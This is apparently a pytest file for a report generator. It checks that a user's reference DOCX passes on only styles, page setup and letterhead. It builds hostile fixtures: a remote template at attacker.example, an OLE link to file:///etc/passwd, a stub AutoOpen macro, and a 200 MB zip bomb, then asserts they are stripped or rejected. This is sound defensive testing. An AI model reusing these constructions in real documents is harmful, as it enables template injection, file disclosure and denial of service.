"""A user's ``--reference-doc`` lends styles, page setup and a letterhead, and nothing else.

Each hostile DOCX is built here from the default reference document with zipfile:
an external attached template, an external OLE object in a header, a macro part,
a zip bomb, an unsupported compression method, an encrypted member; and a device or a
FIFO in place of the file. None of them may reach a briefing, crash the build or hang.
"""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner

import reportgen
from reportgen.cli import main
from reportgen.writers.docx_reference import REFERENCE_DOCX
from reportgen.writers.docx_reference_safety import open_safely

BASE = Path(__file__).resolve().parents[1] / "bad_inputs" / "_base.yaml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _png() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


PNG = _png()


def members(**changes: bytes | None) -> dict[str, bytes]:
    """The default reference document's members, with some replaced, added or removed."""
    with zipfile.ZipFile(REFERENCE_DOCX) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, data in changes.items():
        name = name.replace("__", "/").replace("_DOT_", ".")
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    return parts


def write_docx(path: Path, parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def add_rel(parts: dict[str, bytes], rels_name: str, rel: str) -> None:
    text = parts.get(rels_name, f'<Relationships xmlns="{PKG_REL}"></Relationships>'.encode())
    parts[rels_name] = text.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_override(parts: dict[str, bytes], name: str, content_type: str) -> None:
    item = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", item.encode())


def hostile_docx(tmp_path: Path) -> Path:
    """An attached template on http, an OLE object on file://, and a macro project."""
    parts = members()
    settings = parts["word/settings.xml"].decode()
    settings = settings.replace(
        "<w:zoom", f'<w:attachedTemplate xmlns:r="{REL}" r:id="rIdT1"/><w:zoom'
    )
    parts["word/settings.xml"] = settings.encode()
    add_rel(
        parts,
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="rIdT1" Type="{REL}/attachedTemplate"'
        ' Target="http://attacker.example/house.dotm" TargetMode="External"/>',
    )
    header = (
        f'<w:hdr xmlns:w="{W}" xmlns:r="{REL}" xmlns:o="urn:schemas-microsoft-com:office:office">'
        "<w:p><w:r><w:t>Letterhead</w:t></w:r><w:r><w:object>"
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdO1" UpdateMode="Always"/>'
        "</w:object></w:r></w:p></w:hdr>"
    )
    parts["word/header1.xml"] = header.encode()
    add_rel(
        parts,
        "word/_rels/header1.xml.rels",
        f'<Relationship Id="rIdO1" Type="{REL}/oleObject"'
        ' Target="file:///etc/passwd" TargetMode="External"/>',
    )
    ct = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    add_override(parts, "word/header1.xml", f"{ct}.header+xml")
    add_rel(
        parts,
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdH1" Type="{REL}/header" Target="header1.xml"/>'
        '<Relationship Id="rIdV1" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>',
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Sub AutoOpen() Shell(...) End Sub"
    add_override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    document = parts["word/document.xml"].decode()
    document = document.replace(
        "<w:sectPr>", '<w:sectPr><w:headerReference w:type="default" r:id="rIdH1"/>'
    )
    parts["word/document.xml"] = document.encode()
    return write_docx(tmp_path / "house.docx", parts)


def letterhead_docx(tmp_path: Path) -> Path:
    """A header with its own picture: what a reference document is for."""
    parts = members()
    header = (
        f'<w:hdr xmlns:w="{W}" xmlns:r="{REL}" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<w:p><w:r><w:t>House letterhead</w:t></w:r><w:r><w:drawing><a:blip r:embed="rIdI1"/>'
        "</w:drawing></w:r></w:p></w:hdr>"
    )
    parts["word/header1.xml"] = header.encode()
    parts["word/media/logo.png"] = PNG
    add_rel(
        parts,
        "word/_rels/header1.xml.rels",
        f'<Relationship Id="rIdI1" Type="{REL}/image" Target="media/logo.png"/>',
    )
    ct = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    add_override(parts, "word/header1.xml", f"{ct}.header+xml")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="png" ContentType="image/png"/><Default ', 1
    )
    add_rel(
        parts,
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdH1" Type="{REL}/header" Target="header1.xml"/>',
    )
    document = parts["word/document.xml"].decode()
    document = document.replace(
        "<w:sectPr>", '<w:sectPr><w:headerReference w:type="first" r:id="rIdH1"/>'
    )
    parts["word/document.xml"] = document.encode()
    return write_docx(tmp_path / "letterhead.docx", parts)


def built_docx(reference: Path, tmp_path: Path) -> dict[str, bytes]:
    facts = reportgen.load_facts(BASE)
    report = reportgen.build(facts, lang="en", charts=False)
    (path,) = report.write(tmp_path / "out", ["docx"], reference_doc=reference)
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_unsafe_parts_never_reach_the_briefing(tmp_path: Path) -> None:
    with pytest.warns(UserWarning) as caught:
        parts = built_docx(hostile_docx(tmp_path), tmp_path)
    everything = b"".join(parts.values())
    assert b"attacker.example" not in everything
    assert b"file:///etc/passwd" not in everything
    assert b"TargetMode" not in everything  # no external relationship of any kind
    assert not any("vba" in name.lower() or name.endswith(".bin") for name in parts)
    assert b"vbaProject" not in everything and b"attachedTemplate" not in everything
    assert b"OLEObject" not in everything
    messages = " ".join(str(w.message) for w in caught)
    assert "house.docx" in messages
    assert "vbaProject.bin" in messages and "attachedTemplate" in messages
    assert "oleObject" in messages


def test_the_cli_warns_about_what_it_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile_docx(tmp_path)
    (tmp_path / "data.yaml").write_bytes(BASE.read_bytes())
    monkeypatch.chdir(tmp_path)
    args = [
        "build",
        "data.yaml",
        "--no-charts",
        "--format",
        "docx",
        "--reference-doc",
        "house.docx",
    ]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert warnings and all("reference document house.docx" in line for line in warnings)
    assert "Traceback" not in result.stderr


def test_a_letterhead_with_its_picture_is_kept(tmp_path: Path) -> None:
    """The header part and its own picture pass the filter untouched, without a warning."""
    path = letterhead_docx(tmp_path)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        safe = open_safely(path)
    with zipfile.ZipFile(io.BytesIO(safe)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    assert b"House letterhead" in kept["word/header1.xml"]
    assert kept["word/media/logo.png"] == PNG
    assert b'r:embed="rIdI1"' in kept["word/header1.xml"]
    parts = built_docx(path, tmp_path)
    assert PNG in parts.values()  # the letterhead's picture travels into the briefing
    assert b"TargetMode" not in b"".join(parts.values())


def test_styles_and_page_setup_still_come_from_the_reference(tmp_path: Path) -> None:
    parts = members()
    document = parts["word/document.xml"].decode()
    page = re.sub(r'<w:pgSz w:w="\d+" w:h="\d+"', '<w:pgSz w:w="12240" w:h="15840"', document)
    parts["word/document.xml"] = page.encode()
    house = (
        '<w:style w:type="paragraph" w:styleId="HouseNote"><w:name w:val="House Note"/></w:style>'
    )
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", house.encode() + b"</w:styles>"
    )
    built = built_docx(write_docx(tmp_path / "letter.docx", parts), tmp_path)
    assert b'w:w="12240"' in built["word/document.xml"]
    assert b"House Note" in built["word/styles.xml"]


def _bomb(tmp_path: Path) -> Path:
    """styles.xml inflates to 200 MB from about 200 KB."""
    path = tmp_path / "bomb.docx"
    parts = members()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name != "word/styles.xml":
                archive.writestr(name, data)
        with archive.open("word/styles.xml", "w", force_zip64=True) as handle:
            chunk = b" " * 2**20
            for _ in range(200):
                handle.write(chunk)
    return path


def _unsupported_method(tmp_path: Path) -> Path:
    """styles.xml stored with compression method 99 (AES), which zipfile cannot read."""
    path = write_docx(tmp_path / "method.docx", members(), zipfile.ZIP_STORED)
    return _patch_member_header(path, "word/styles.xml", method=99)


def _encrypted(tmp_path: Path) -> Path:
    """styles.xml flagged as encrypted."""
    path = write_docx(tmp_path / "locked.docx", members(), zipfile.ZIP_STORED)
    return _patch_member_header(path, "word/styles.xml", flags=0x1)


def _patch_member_header(path: Path, name: str, *, method: int = -1, flags: int = 0) -> Path:
    """Rewrite a member's compression method or flags in both its headers."""
    blob = bytearray(path.read_bytes())
    encoded = name.encode()
    for signature, flag_at, method_at, name_len_at, name_at in (
        (b"PK\x03\x04", 6, 8, 26, 30),
        (b"PK\x01\x02", 8, 10, 28, 46),
    ):
        start = 0
        while (at := blob.find(signature, start)) >= 0:
            start = at + 4
            (length,) = struct.unpack_from("<H", blob, at + name_len_at)
            if bytes(blob[at + name_at : at + name_at + length]) != encoded:
                continue
            if method >= 0:
                struct.pack_into("<H", blob, at + method_at, method)
            if flags:
                (old,) = struct.unpack_from("<H", blob, at + flag_at)
                struct.pack_into("<H", blob, at + flag_at, old | flags)
    path.write_bytes(bytes(blob))
    return path


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (_bomb, "larger than 20 MB"),
        (_unsupported_method, "unsupported compression"),
        (_encrypted, "encrypted"),
    ],
)
def test_a_broken_archive_is_one_clear_error(make, reason: str, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Run in a process under a 1 GB address-space limit: a bomb must not be inflated."""
    reference = make(tmp_path)
    (tmp_path / "data.yaml").write_bytes(BASE.read_bytes())
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))\n"
        "from reportgen.cli import main\n"
        "sys.exit(main())\n"
    )
    args = [
        "build",
        "data.yaml",
        "--no-charts",
        "--format",
        "docx",
        "--reference-doc",
        reference.name,
    ]
    proc = subprocess.run(
        [sys.executable, "-c", script, *args],
        cwd=tmp_path, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert "Traceback" not in proc.stderr
    assert proc.returncode == 2
    (line,) = proc.stderr.splitlines()
    assert line.startswith(f"error: reference document {reference.name} is not a usable")
    assert reason in line
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("special", "what"), [("/dev/zero", "is a device"), ("fifo", "is a FIFO")])
def test_a_device_or_fifo_is_named_for_what_it_is(
    special: str, what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if special == "fifo":
        os.mkfifo(tmp_path / "fifo")
    (tmp_path / "data.yaml").write_bytes(BASE.read_bytes())
    monkeypatch.chdir(tmp_path)
    args = ["build", "data.yaml", "--no-charts", "--format", "docx", "--reference-doc", special]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        f"error: --reference-doc {special}: {what}, not a regular file"
    ]


def test_the_api_refuses_a_fifo_without_hanging(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    facts = reportgen.load_facts(BASE)
    report = reportgen.build(facts, lang="en", charts=False)
    with pytest.raises(reportgen.OptionError, match="is a FIFO, not a regular file"):
        report.write(tmp_path / "out", ["docx"], reference_doc=tmp_path / "fifo")
